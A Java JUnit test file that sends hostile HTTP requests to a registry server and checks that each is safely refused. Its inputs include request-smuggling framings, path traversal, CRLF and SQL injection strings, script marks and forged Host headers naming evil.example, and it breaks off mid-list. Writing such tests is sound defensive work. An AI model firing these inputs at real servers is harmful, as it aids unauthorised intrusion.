package org.touchstone.registry.abuse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.touchstone.format.json.CanonicalJson;
import org.touchstone.format.json.Json;
import org.touchstone.format.json.StrictJson;
import org.touchstone.registry.abuse.Operations.Operation;
import org.touchstone.registry.web.Refusal;
import org.touchstone.verifier.report.OfflinePage;

/// Everything that a hostile client can put into HTTP, at every address that the OpenAPI document describes: no answer
/// is the server's fault, each says its own stable reason, nothing sent comes back unescaped, and after all of it not
/// one row of any table has changed.
class HttpAbuseTest {
    private static final List<String> OFFLINE_PAGES = Arrays.stream(OfflinePage.values())
            .map(p -> new String(p.bytes(), StandardCharsets.UTF_8))
            .toList();
    /// Put wherever something of ours might come back.
    private static final String MARK = "zq7\"'<script>";

    private static final Map<String, Integer> CODES =
            Stream.of(Refusal.values()).collect(Collectors.toUnmodifiableMap(Refusal::code, Refusal::status));
    private static final ConcurrentLinkedQueue<String> WRONG = new ConcurrentLinkedQueue<>();
    private static final java.util.concurrent.atomic.AtomicInteger SENT =
            new java.util.concurrent.atomic.AtomicInteger();

    private static Target target;
    private static Operations operations;
    private static String dilip;
    private static String grace;

    @BeforeAll
    static void start() throws Exception {
        target = new Target(Target.LIMITS, List.of("-Xmx256m", "-XX:+ExitOnOutOfMemoryError"));
        operations = Operations.of(target);
        dilip = target.cast.suppliers().values().iterator().next().person().token();
        grace = target.token("D-002");
    }

    @AfterAll
    static void stop() throws Exception {
        System.out.println("abuse: " + SENT + " requests");
        if (target != null) {
            target.close();
        }
    }

    // ---- sending and judging

    /// What an answer must be: one of these statuses, and one of these codes where it is a refusal.
    private record Wanted(Set<Integer> statuses, Set<String> codes, boolean closes) {
        static Wanted refusal(String... codes) {
            return new Wanted(Stream.of(codes).map(CODES::get).collect(Collectors.toSet()), Set.of(codes), false);
        }

        static Wanted status(Integer... statuses) {
            return new Wanted(Set.of(statuses), Set.of(), false);
        }

        Wanted or(Integer... more) {
            Set<Integer> all = new TreeSet<>(statuses);
            all.addAll(List.of(more));
            return new Wanted(all, codes, closes);
        }

        Wanted andCloses() {
            return new Wanted(statuses, codes, true);
        }
    }

    /// Any refusal, or a plain reading that came out well: never a fault.
    private static final Wanted HARMLESS = new Wanted(Set.of(), Set.of(), false);

    private static Optional<Wire.Reply> send(String what, byte[] request, Wanted wanted) {
        SENT.incrementAndGet();
        boolean head = new String(request, 0, Math.min(5, request.length), StandardCharsets.ISO_8859_1).equals("HEAD ");
        try (Wire wire = new Wire(target.port)) {
            Optional<Wire.Reply> reply = wire.send(request).reply(head);
            if (reply.isEmpty()) {
                WRONG.add(what + ": no answer");
                return reply;
            }
            judge(what, reply.get(), wanted, head);
            if (wanted.closes() && !wire.ended()) {
                WRONG.add(what + ": the connection stays open, or there is a second answer");
            }
            return reply;
        } catch (IOException e) {
            WRONG.add(what + ": " + e);
            return Optional.empty();
        }
    }

    private static Optional<Wire.Reply> send(String what, String request, Wanted wanted) {
        return send(what, Wire.latin(request), wanted);
    }

    private static void judge(String what, Wire.Reply reply, Wanted wanted, boolean head) {
        int status = reply.status();
        if (status >= 500) {
            WRONG.add(what + ": " + reply);
            return;
        }
        if (!wanted.statuses().isEmpty() && !wanted.statuses().contains(status)) {
            WRONG.add(what + ": wanted " + wanted.statuses() + wanted.codes() + " but "
                    + reply.toString().lines().limit(3).toList());
            return;
        }
        for (String header : List.of(
                "X-Content-Type-Options",
                "Content-Security-Policy",
                "Referrer-Policy",
                "X-Frame-Options",
                "Cross-Origin-Opener-Policy",
                "Permissions-Policy",
                "Cache-Control",
                "X-Request-Id")) {
            if (reply.header(header).isEmpty()) {
                WRONG.add(what + ": " + status + " without " + header);
            }
        }
        if (reply.header("Server").isPresent() || reply.header("X-Powered-By").isPresent()) {
            WRONG.add(what + ": says what it runs on");
        }
        String text = reply.text();
        // In JSON, which nothing renders, a name that is not known is given back as it came.
        boolean page = !reply.header("Content-Type").orElse("").contains("json");
        // Two pages have a script, are files to download, and the same for everybody: to the byte.
        if (page && text.contains("<script>") && !OFFLINE_PAGES.contains(text)
                || text.contains("Exception")
                || text.contains("\tat ")
                || text.contains("elidon")) {
            WRONG.add(what + ": echoes or leaks: " + text);
        }
        if (status < 400 || head) {
            return;
        }
        if (status == 401 && reply.header("WWW-Authenticate").isEmpty()) {
            WRONG.add(what + ": 401 without a challenge");
        }
        if (status == 405 && reply.header("Allow").isEmpty()) {
            WRONG.add(what + ": 405 without Allow");
        }
        if (!reply.header("Content-Type").orElse("").equals("application/problem+json")) {
            WRONG.add(what + ": " + status + " is no problem document but " + reply.header("Content-Type"));
            return;
        }
        try {
            Json.Obj problem = StrictJson.parseObject(reply.body());
            String code = problem.text("code");
            if (!Integer.valueOf(status).equals(CODES.get(code))) {
                WRONG.add(what + ": code " + code + " with " + status);
            }
            if (!wanted.codes().isEmpty() && status >= 400 && !wanted.codes().contains(code)) {
                WRONG.add(what + ": wanted " + wanted.codes() + " but " + code);
            }
            if (problem.text("detail").matches(".*\\{[0-9]}.*")) {
                WRONG.add(what + ": an unfilled sentence: " + problem.text("detail"));
            }
            if (!problem.text("type").endsWith("/problems/" + code)) {
                WRONG.add(what + ": type " + problem.text("type"));
            }
        } catch (RuntimeException e) {
            WRONG.add(what + ": " + e + " in " + text);
        }
    }

    private interface Case {
        void run();
    }

    /// Runs cases four at a time and asserts that nothing was wrong and nothing changed.
    private static void all(List<Case> cases) throws Exception {
        WRONG.clear();
        Map<String, String> before = target.checksums();
        try (ExecutorService four = Executors.newFixedThreadPool(4)) {
            List<Future<?>> running = new ArrayList<>();
            cases.forEach(c -> running.add(four.submit(c::run)));
            for (Future<?> one : running) {
                one.get();
            }
        }
        assertTrue(target.alive(), "the server has ended");
        assertEquals(List.of(), WRONG.stream().limit(40).toList(), () -> WRONG.size() + " of " + cases.size());
        Map<String, String> changed = new TreeMap<>(target.checksums());
        changed.entrySet().removeAll(before.entrySet());
        assertEquals(Map.of(), changed, "tables that have changed");
    }

    // ---- every address

    @Test
    void methods() throws Exception {
        List<Case> cases = new ArrayList<>();
        Map<String, Set<String>> known = new TreeMap<>();
        Map<String, String> filled = new TreeMap<>();
        operations.all().forEach(o -> {
            known.computeIfAbsent(o.path(), _ -> new TreeSet<>()).add(o.method());
            filled.put(o.path(), o.filled());
        });
        known.forEach((path, methods) -> {
            for (String method : List.of(
                    "GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "BREW", "M-SEARCH", "POST1")) {
                if (!methods.contains(method)) {
                    cases.add(() -> send(
                            method + " " + path,
                            method + " " + filled.get(path) + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "
                                    + grace + "\r\n\r\n",
                            Wanted.refusal("method-not-allowed")));
                }
            }
            cases.add(() -> {
                Optional<Wire.Reply> reply = send(
                        "OPTIONS " + path,
                        "OPTIONS " + filled.get(path)
                                + " HTTP/1.1\r\nHost: localhost\r\nOrigin: https://evil.example\r\n"
                                + "Access-Control-Request-Method: POST\r\n"
                                + "Access-Control-Request-Headers: authorization\r\n\r\n",
                        Wanted.status(204));
                reply.ifPresent(r -> {
                    if (r.header("Access-Control-Allow-Headers").isPresent()
                            || r.header("Access-Control-Allow-Methods")
                                    .orElse("")
                                    .contains("POST")
                            || r.header("Access-Control-Allow-Credentials").isPresent()) {
                        WRONG.add("OPTIONS " + path + " lets other sites write");
                    }
                });
            });
            if (methods.contains("GET")) {
                cases.add(() -> {
                    String auth = "Authorization: Bearer " + grace + "\r\n";
                    Optional<Wire.Reply> get = send(
                            "GET " + path,
                            "GET " + filled.get(path) + " HTTP/1.1\r\nHost: localhost\r\n" + auth + "\r\n",
                            HARMLESS);
                    Optional<Wire.Reply> head = send(
                            "HEAD " + path,
                            "HEAD " + filled.get(path) + " HTTP/1.1\r\nHost: localhost\r\n" + auth + "\r\n",
                            HARMLESS);
                    if (get.isPresent() && head.isPresent() && !path.equals("/metrics")) {
                        boolean streamed = get.get().header("Transfer-Encoding").isPresent();
                        String one = comparable(get.get(), streamed);
                        String other = comparable(head.get(), streamed);
                        if (!one.equals(other)) {
                            WRONG.add("HEAD " + path + ": " + other + " is not " + one);
                        }
                    }
                });
            }
        });
        all(cases);
    }

    private static String comparable(Wire.Reply reply, boolean streamed) {
        return reply.status() + " "
                + reply.headers().stream()
                        .map(h -> h.toLowerCase(Locale.ROOT))
                        .filter(h -> !h.startsWith("date:")
                                && !h.startsWith("x-request-id:")
                                && !h.startsWith("transfer-encoding:")
                                // How long a stream is shows only when it has been written.
                                && !(streamed && h.startsWith("content-length:")))
                        .sorted()
                        .toList();
    }

    @Test
    void paths() throws Exception {
        List<Case> cases = new ArrayList<>();
        Set<String> seen = new TreeSet<>();
        Wanted nowhere = Wanted.refusal(
                "not-found", "malformed-request", "bad-request-line", "method-not-allowed", "unauthenticated");
        for (Operation o : operations.all()) {
            if (!seen.add(o.filled()) || o.filled().equals("/")) {
                continue;
            }
            String p = o.filled();
            int last = p.lastIndexOf('/');
            for (String path : List.of(
                    p + "/",
                    "/" + p,
                    p + "//",
                    "/." + p,
                    "/x/.." + p,
                    "/x/%2e%2e" + p,
                    "/%2e" + p,
                    p + "/..",
                    p + "/%2e%2e/x",
                    p + ";a=b",
                    p.substring(0, last) + ";v=1" + p.substring(last),
                    p + "%00",
                    p + "%0d%0aX-Evil:%20yes",
                    p + "%c0%ae",
                    p + "%ff",
                    p + "%ed%a0%80",
                    p + "%252e",
                    p + "%zz",
                    p + "%",
                    p + "%2",
                    p.substring(0, last) + "%2f" + p.substring(last + 1),
                    p.substring(0, last) + "%5c" + p.substring(last + 1),
                    p.substring(0, last) + "\\" + p.substring(last + 1),
                    "/" + p.substring(1, 2).toUpperCase(Locale.ROOT) + p.substring(2) + "%20",
                    p + "%3Cscript%3E",
                    p + "<script>",
                    p + "\u0000",
                    p + "\u00e9",
                    p + "#x")) {
                cases.add(() -> send(
                        o.method() + " " + path,
                        o.method() + " " + path + " HTTP/1.1\r\nHost: localhost\r\n\r\n",
                        nowhere));
            }
            cases.add(() -> send(
                    "long " + p,
                    o.method() + " " + p + "/" + "a".repeat(8_000) + " HTTP/1.1\r\nHost: localhost\r\n\r\n",
                    // A longer address may be another route's, which takes another method.
                    Wanted.refusal("not-found", "uri-too-long", "unauthenticated", "method-not-allowed")));
        }
        all(cases);
    }

    @Test
    void queries() throws Exception {
        List<Case> cases = new ArrayList<>();
        for (Operation o : operations.all()) {
            List<String> bad = new ArrayList<>(List.of(
                    "zz=1", "zz", "=", "=x", "%zz=1", "a%00=1", "%ff=1", "Q=1", "constructor=1", "%3Cscript%3E=1"));
            for (String name : o.query()) {
                bad.add(name + "=1&" + name + "=2");
                bad.add(name + "=1&" + name);
                bad.add(name + "=%zz");
                bad.add(name + "=%00");
                bad.add(name + "=%c3");
                bad.add(name + "=a%0d%0ab");
            }
            for (String query : bad) {
                cases.add(() -> send(
                        o.method() + " " + o.path() + "?" + query,
                        o.method() + " " + o.filled() + "?" + query + " HTTP/1.1\r\nHost: localhost\r\n"
                                + o.earnest(grace) + "\r\n",
                        Wanted.refusal(
                                "unknown-parameter", "repeated-parameter", "invalid-parameter", "malformed-request")));
            }
            for (String name : o.query()) {
                for (String value : List.of(
                        "",
                        "'",
                        "%27%20OR%201%3D1--",
                        "%25",
                        "%5C",
                        "-1",
                        "0",
                        "9".repeat(40),
                        "a".repeat(4_000),
                        "%F0%9F%92%A9",
                        "%EF%BF%BE",
                        "%2e%2e%2f",
                        "null",
                        "2026-99-99",
                        "*",
                        "%26%7C!()%3A*")) {
                    cases.add(() -> send(
                            o.path() + "?" + name + "=" + value,
                            o.method() + " " + o.filled() + "?" + name + "=" + value
                                    + " HTTP/1.1\r\nHost: localhost\r\n"
                                    + (o.person() ? "" : o.earnest(grace)) + "\r\n",
                            HARMLESS));
                }
            }
            cases.add(() -> send(
                    "huge query " + o.path(),
                    o.method() + " " + o.filled() + "?q=" + "a".repeat(9_000) + " HTTP/1.1\r\nHost: localhost\r\n\r\n",
                    Wanted.refusal("uri-too-long")));
        }
        all(cases);
    }

    @Test
    void hosts_and_forwarding_headers() throws Exception {
        List<Case> cases = new ArrayList<>();
        for (Operation o : operations.all()) {
            String line = o.method() + " " + o.filled() + " HTTP/1.1\r\n";
            Map<String, Wanted> hosts = new TreeMap<>();
            hosts.put("", Wanted.refusal("bad-host").andCloses());
            hosts.put("Host:\r\n", Wanted.refusal("bad-host").andCloses());
            hosts.put(
                    "Host: localhost\r\nHost: localhost\r\n",
                    Wanted.refusal("bad-host").andCloses());
            hosts.put(
                    "Host: localhost\r\nhost: evil.example\r\n",
                    Wanted.refusal("bad-host").andCloses());
            for (String host : List.of(
                    "evil.example",
                    "localhost.evil.example",
                    "localhost@evil.example",
                    "evil.example:80",
                    "localhost,evil.example",
                    "localhost/",
                    "local host",
                    "127.0.0.1.evil.example",
                    "[::1",
                    "%6cocalhost")) {
                hosts.put("Host: " + host + "\r\n", Wanted.refusal("misdirected", "malformed-request"));
            }
            hosts.forEach((header, wanted) ->
                    cases.add(() -> send(o + " with " + header.strip(), line + header + "\r\n", wanted)));
            // What this machine alone is told is kept from whoever comes through a proxy; the rest is the same.
            boolean own = o.path().equals("/metrics") || o.path().equals("/health/ready");
            if (o.method().equals("GET") && !own && !o.person()) {
                cases.add(() -> {
                    String plain = line + "Host: localhost\r\n";
                    Optional<Wire.Reply> one = send(o.toString(), plain + "\r\n", HARMLESS);
                    Optional<Wire.Reply> other = send(
                            o + " with forged forwarding headers",
                            plain
                                    + "X-Forwarded-For: 203.0.113.9, 127.0.0.1\r\nX-Forwarded-Host: evil.example\r\n"
                                    + "X-Forwarded-Proto: gopher\r\nX-Forwarded-Port: 99999\r\nX-Real-IP: ::\r\n"
                                    + "Forwarded: for=\"_x\";host=evil.example;proto=https\r\nX-Original-URL: /metrics\r\n"
                                    + "X-Rewrite-URL: /metrics\r\nX-HTTP-Method-Override: DELETE\r\nVia: 1.1 evil.example\r\n\r\n",
                            HARMLESS);
                    if (one.isPresent() && other.isPresent()) {
                        boolean same = one.get().status() == other.get().status()
                                && (one.get().status() >= 400
                                        || java.util.Arrays.equals(
                                                one.get().body(), other.get().body()));
                        if (!same || other.get().toString().contains("evil.example")) {
                            WRONG.add(o + " depends on forwarding headers");
                        }
                    }
                });
            }
        }
        all(cases);
    }

    // ---- framing

    /// Requests whose end two readers could see in different places, or that are no HTTP/1.1 at all. Each is
    /// answered once and the connection ends: what follows is never taken for another request.
    @Test
    void framing() throws Exception {
        String host = "Host: localhost\r\n";
        String json = "Content-Type: application/json\r\n";
        String post = "POST /api/v1/applications HTTP/1.1\r\n" + host + json;
        String get = "GET /suppliers HTTP/1.1\r\n" + host;
        String second = "GET /metrics HTTP/1.1\r\n" + host + "\r\n";
        Wanted length = Wanted.refusal("bad-length").andCloses();
        Wanted header = Wanted.refusal("bad-header").andCloses();
        Wanted first = Wanted.refusal("bad-request-line").andCloses();
        Wanted chunk = Wanted.refusal("bad-chunk").andCloses();
        Map<String, Wanted> cases = new java.util.LinkedHashMap<>();
        // Two lengths, or odd ones.
        cases.put(post + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + second, length);
        cases.put(post + "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + second, length);
        cases.put(post + "Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}" + second, length);
        cases.put(post + "Content-Length: 2\r\nContent-Length: 44\r\n\r\n{}" + second, length);
        for (String said : List.of(
                "2, 2",
                "2,44",
                "+2",
                "-2",
                "-0",
                "0x2",
                "2.0",
                "2e0",
                "02",
                "00",
                "2 2",
                "",
                " ",
                "two",
                "\u0662",
                "2;q=1",
                "18446744073709551618",
                "4294967298000000000",
                "9".repeat(30))) {
            cases.put(post + "Content-Length: " + said + "\r\n\r\n{}" + second, length);
        }
        cases.put(post + "Content-Length : 2\r\n\r\n{}" + second, header);
        cases.put(post + " Content-Length: 2\r\n\r\n{}" + second, header);
        cases.put(post + "X: y\r\n Content-Length: 2\r\n\r\n{}" + second, header);
        cases.put(post + "Content\u0000Length: 2\r\n\r\n{}" + second, header);
        cases.put(post + "Content-Length: 2\u0000\r\n\r\n{}" + second, header);
        // Transfer codings.
        for (String coding : List.of(
                "identity",
                "chunked, chunked",
                "chunked, identity",
                "gzip, chunked",
                "chunked, gzip",
                "xchunked",
                "chunked;q=1",
                "\"chunked\"",
                "chunked,",
                ",chunked",
                "",
                "chunk")) {
            cases.put(post + "Transfer-Encoding: " + coding + "\r\n\r\n0\r\n\r\n" + second, length);
        }
        cases.put(post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + second, length);
        cases.put(post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + second, length);
        cases.put(post + "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + second, length);
        cases.put(post + "Transfer-Encoding: \u000bchunked\r\n\r\n0\r\n\r\n" + second, header);
        cases.put(post + "Transfer-Encoding: chunked\u0000\r\n\r\n0\r\n\r\n" + second, header);
        cases.put(post + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + second, header);
        cases.put(post + "Transfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n" + second, header);
        // Line ends.
        cases.put(get.replace("\r\n", "\n") + "\n", first);
        cases.put(get.replace("\r\n", "\r") + "\r", first);
        cases.put(get + "X: a\nY: b\r\n\r\n", header);
        cases.put(get + "X: a\rY: b\r\n\r\n", header);
        cases.put(get + "X: a\r\r\n\r\n", header);
        cases.put(get + "\n" + second, header);
        cases.put(get + "\r" + second, header);
        cases.put("\r\n" + get + "\r\n", first);
        cases.put("\n" + get + "\r\n", first);
        // Fields.
        cases.put(get + "X: a\r\n b\r\n\r\n", header);
        cases.put(get + "X: a\r\n\tb\r\n\r\n", header);
        cases.put(get + " X: a\r\n\r\n", header);
        cases.put(get + ": a\r\n\r\n", header);
        cases.put(get + "nothing\r\n\r\n", header);
        cases.put(get + "X Y: a\r\n\r\n", header);
        cases.put(get + "X: a\u0000b\r\n\r\n", header);
        cases.put(get + "X: a\u007fb\r\n\r\n", header);
        cases.put(get + "X: a\u0008b\r\n\r\n", header);
        cases.put(get + "X\u00e9: a\r\n\r\n", header);
        cases.put(get + "X(: a\r\n\r\n", header);
        cases.put(
                get + "X: " + "a".repeat(20_000) + "\r\n\r\n",
                Wanted.refusal("headers-too-large").andCloses());
        cases.put(
                get + "X: b\r\n".repeat(100) + "\r\n",
                Wanted.refusal("headers-too-large").andCloses());
        cases.put(
                get + "X" + "y".repeat(20_000) + ": b\r\n\r\n",
                Wanted.refusal("headers-too-large").andCloses());
        // The request line.
        for (String line : List.of(
                "get / HTTP/1.1",
                "Get / HTTP/1.1",
                "GET /#x HTTP/1.1",
                "GET / HTTP/1.0",
                "GET / HTTP/0.9",
                "GET / HTTP/2.0",
                "GET / HTTP/1.2",
                "GET / HTTP/1.1 ",
                "GET / http/1.1",
                "GET / HTTP/1.10",
                "GET / HTTP/01.1",
                "GET / HTTP/1,1",
                "GET /",
                "GET  / HTTP/1.1",
                "GET /  HTTP/1.1",
                " GET / HTTP/1.1",
                "GET\t/ HTTP/1.1",
                "GET /\tHTTP/1.1",
                "GET /a b HTTP/1.1",
                "GET HTTP/1.1",
                "/ HTTP/1.1",
                "G\u00cbT / HTTP/1.1",
                "GE\u0000T / HTTP/1.1",
                "G(T / HTTP/1.1",
                "",
                "GET * HTTP/1.1",
                "OPTIONS * HTTP/1.1",
                "CONNECT localhost:443 HTTP/1.1",
                "CONNECT / HTTP/1.1x",
                "GET http://localhost/suppliers HTTP/1.1",
                "GET http://evil.example/suppliers HTTP/1.1",
                "GET //evil.example/\u0001 HTTP/1.1",
                "GET suppliers HTTP/1.1",
                "GET ?q=1 HTTP/1.1",
                "GET @evil.example/ HTTP/1.1",
                "GET /\u0000 HTTP/1.1",
                "GET /\u00ff HTTP/1.1",
                "PRI * HTTP/2.0")) {
            cases.put(line + "\r\n" + host + "\r\n", first);
        }
        cases.put("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", first);
        cases.put(
                "GET /" + "a".repeat(20_000) + " HTTP/1.1\r\n" + host + "\r\n",
                Wanted.refusal("uri-too-long").andCloses());
        cases.put(
                "A".repeat(20_000) + " / HTTP/1.1\r\n" + host + "\r\n",
                Wanted.refusal("uri-too-long").andCloses());
        cases.put("\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003", first);
        cases.put("\u0000".repeat(64), first);
        cases.put("SSH-2.0-x\r\n", first);
        // An upgrade is no part of HTTP/1.1 that we speak: the request is answered as it stands.
        cases.put(
                get
                        + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
                Wanted.status(200));
        cases.put(
                get
                        + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
                Wanted.status(200));
        // A body where none belongs.
        cases.put(
                get + "Content-Length: 5\r\n\r\nhello" + second,
                Wanted.refusal("unexpected-body").andCloses());
        cases.put(
                get + "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + second,
                Wanted.refusal("unexpected-body").andCloses());
        List<Case> all = new ArrayList<>();
        cases.forEach((request, wanted) -> all.add(() -> send(shown(request), request, wanted)));
        // Chunks: the framing is judged while the body is read, so the request has to get that far.
        Operation o = operations.all().stream()
                .filter(x -> x.toString().equals("POST /api/v1/applications"))
                .findFirst()
                .orElseThrow();
        String before = "POST /api/v1/applications HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\n";
        for (String body : List.of(
                "2;a=b\r\n{}\r\n0\r\n\r\n",
                "2;\n{}\r\n0\r\n\r\n",
                "2 \r\n{}\r\n0\r\n\r\n",
                " 2\r\n{}\r\n0\r\n\r\n",
                "0x2\r\n{}\r\n0\r\n\r\n",
                "+2\r\n{}\r\n0\r\n\r\n",
                "-2\r\n{}\r\n0\r\n\r\n",
                "2\n{}\r\n0\r\n\r\n",
                "2\r{}\r\n0\r\n\r\n",
                "2\r\n{}\n0\r\n\r\n",
                "2\r\n{}\r0\r\n\r\n",
                "2\r\n{}0\r\n\r\n",
                "2\r\n{}xx0\r\n\r\n",
                "1\r\n{}\r\n0\r\n\r\n",
                "3\r\n{}\r\n0\r\n\r\n",
                "\r\n{}\r\n0\r\n\r\n",
                "zz\r\n{}\r\n0\r\n\r\n",
                "100000002\r\n{}\r\n0\r\n\r\n",
                "ffffffffffffffff\r\n{}\r\n0\r\n\r\n",
                "2\r\n{}\r\n0\r\nX: y\r\n\r\n",
                "2\r\n{}\r\n0\r\nContent-Length: 9\r\n\r\n",
                "2\r\n{}\r\n0\r\n\n",
                "2\r\n{}\r\n0;x\r\n\r\n",
                "2\r\n{}\r\n0\r\nGET /metrics HTTP/1.1\r\n\r\n")) {
            all.add(() -> send("chunks " + shown(body), before + o.earnest(dilip) + "\r\n" + body + second, chunk));
        }
        all.add(() -> send(
                "a giant chunk",
                before + o.earnest(dilip) + "\r\n7fffffff\r\n{}",
                Wanted.refusal("too-large").andCloses()));
        all.add(() -> send(
                "a body over its cap",
                before + o.earnest(dilip) + "\r\n"
                        + "10000\r\n".concat("x".repeat(65_536)).concat("\r\n").repeat(17) + "0\r\n\r\n",
                Wanted.refusal("too-large").andCloses()));
        all.add(() -> send(
                "a length over its cap",
                "POST /api/v1/applications HTTP/1.1\r\n" + host + o.earnest(dilip)
                        + "Content-Length: 1048577\r\n\r\n{}",
                Wanted.refusal("too-large").andCloses()));
        all(all);
    }

    private static String shown(String request) {
        String text = request.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
        return text.length() <= 160 ? text : text.substring(0, 160) + "…";
    }

    @Test
    void requests_in_one_packet_are_answered_in_order_up_to_the_first_bad_one() throws Exception {
        String host = "Host: localhost\r\n";
        try (Wire wire = new Wire(target.port)) {
            wire.send("GET /health/live HTTP/1.1\r\n" + host + "\r\nGET /nothing HTTP/1.1\r\n" + host
                    + "\r\nGET /health/live HTTP/1.1\r\nBad Header: x\r\n\r\nGET /health/live HTTP/1.1\r\n" + host
                    + "\r\n");
            assertEquals(200, wire.reply(false).orElseThrow().status());
            assertEquals(404, wire.reply(false).orElseThrow().status());
            assertEquals(400, wire.reply(false).orElseThrow().status());
            assertTrue(wire.ended());
        }
        // A whole request hidden in a body stays a body.
        Operation o = operations.all().stream()
                .filter(x -> x.schema().isPresent())
                .findFirst()
                .orElseThrow();
        String hidden = "GET /metrics HTTP/1.1\r\n" + host + "\r\n";
        try (Wire wire = new Wire(target.port)) {
            wire.send(o.request(o.earnest(dilip), hidden) + "GET /health/live HTTP/1.1\r\n" + host + "\r\n");
            assertEquals(
                    "malformed-json",
                    StrictJson.parseObject(wire.reply(false).orElseThrow().body())
                            .text("code"));
            assertEquals(200, wire.reply(false).orElseThrow().status());
        }
    }

    // ---- bodies, tokens, keys

    @Test
    void bodies_of_the_wrong_kind() throws Exception {
        List<Case> cases = new ArrayList<>();
        for (Operation o : operations.all()) {
            if (o.types().isEmpty()) {
                if (!o.method().equals("GET")) {
                    cases.add(() -> send(
                            o + " with a body",
                            o.request(o.earnest(grace) + "Content-Type: application/json\r\n", "{}"),
                            Wanted.refusal("unexpected-body").andCloses()));
                }
                continue;
            }
            String key = "Authorization: Bearer " + grace + "\r\nIdempotency-Key: " + UUID.randomUUID() + "\r\n";
            for (String type : List.of(
                    "",
                    "Content-Type: text/xml\r\n",
                    "Content-Type: application/x-www-form-urlencoded\r\n",
                    "Content-Type: multipart/form-data; boundary=x\r\n",
                    "Content-Type: application/jsonx\r\n",
                    "Content-Type: application/json, text/plain\r\n",
                    "Content-Type: application/json; charset=utf-16\r\n",
                    "Content-Type: " + "a".repeat(5_000) + "\r\n",
                    "Content-Type: " + MARK + "\r\n")) {
                if (type.contains("boundary") && o.types().contains("multipart/form-data")) {
                    continue;
                }
                cases.add(() -> send(
                        o + " as " + type.strip(), o.request(key + type, "{}"), Wanted.refusal("unsupported-type")));
            }
            for (String coding : List.of("gzip", "deflate", "br", "gzip, gzip", "x", "identity, gzip")) {
                cases.add(() -> send(
                        o + " packed as " + coding,
                        o.request(o.earnest(grace) + "Content-Encoding: " + coding + "\r\n", "\u001f\u008b\u0008{}"),
                        Wanted.refusal("unsupported-type")));
            }
            cases.add(() -> send(
                    o + " with two types",
                    o.request(o.earnest(grace) + "Content-Type: text/plain\r\n", "{}"),
                    Wanted.refusal("malformed-request")));
        }
        all(cases);
    }

    /// JSON by RFC 8259, which another system may write, though not the JSON that is ours; it lacks what a file of
    /// that system has.
    private static final Set<String> FOREIGN = Set.of(
            "{\"a\":1.5}", "{\"a\":1e5}", "{\"a\":9007199254740993}", "{\"a\":\"\\ud800\"}", "\u00ef\u00bb\u00bf{}");

    @Test
    void json_that_is_none() throws Exception {
        List<String> bad = new ArrayList<>(List.of(
                "",
                " ",
                "{",
                "}",
                "[]",
                "[",
                "null",
                "1",
                "\"x\"",
                "{}{}",
                "{} x",
                "{\"a\":1,}",
                "{a:1}",
                "{'a':1}",
                "{\"a\":01}",
                "{\"a\":1.5}",
                "{\"a\":1e5}",
                "{\"a\":NaN}",
                "{\"a\":-}",
                "{\"a\":9007199254740993}",
                "{\"a\":1,\"a\":1}",
                "{\"a\":\"\\u0000\"",
                "{\"a\":\"\\ud800\"}",
                "{\"a\":\"\\x\"}",
                "{\"a\":\"\u0001\"}",
                "{\"a\":\"\u00ff\u00fe\"}",
                "{\"a\":\"\u00c0\u00ae\"}",
                "\u00ef\u00bb\u00bf{}",
                "{\"a\":/*x*/1}",
                "{\"a\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}",
                "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000),
                "[".repeat(500_000)));
        List<Case> cases = new ArrayList<>();
        for (Operation o : operations.all()) {
            if (o.schema().isEmpty()) {
                continue;
            }
            for (String body : bad.subList(0, o.path().equals("/api/v1/applications") ? bad.size() : bad.size() - 1)) {
                cases.add(() -> send(
                        o + " " + shown(body),
                        o.method() + " " + o.filled() + " HTTP/1.1\r\nHost: localhost\r\n" + o.earnest(grace)
                                + "Content-Length: " + body.length() + "\r\n\r\n" + body,
                        // Who may not see it at all is told so before the body is looked at.
                        o.path().endsWith("/draft/platform") && FOREIGN.contains(body)
                                ? Wanted.refusal("invalid-fields", "not-found")
                                : Wanted.refusal("malformed-json", "not-found")));
            }
        }
        all(cases);
    }

    @Test
    void fields_of_every_wrong_kind() throws Exception {
        List<Json> kinds = List.of(
                new Json.Null(),
                new Json.Bool(true),
                new Json.Num(-9_007_199_254_740_991L),
                new Json.Str(""),
                new Json.Str("x".repeat(5_000)),
                new Json.Str(MARK),
                new Json.Str("'; DROP TABLE person; --"),
                new Json.Str("\u202e\u0000\ufffe"),
                new Json.Arr(List.of()),
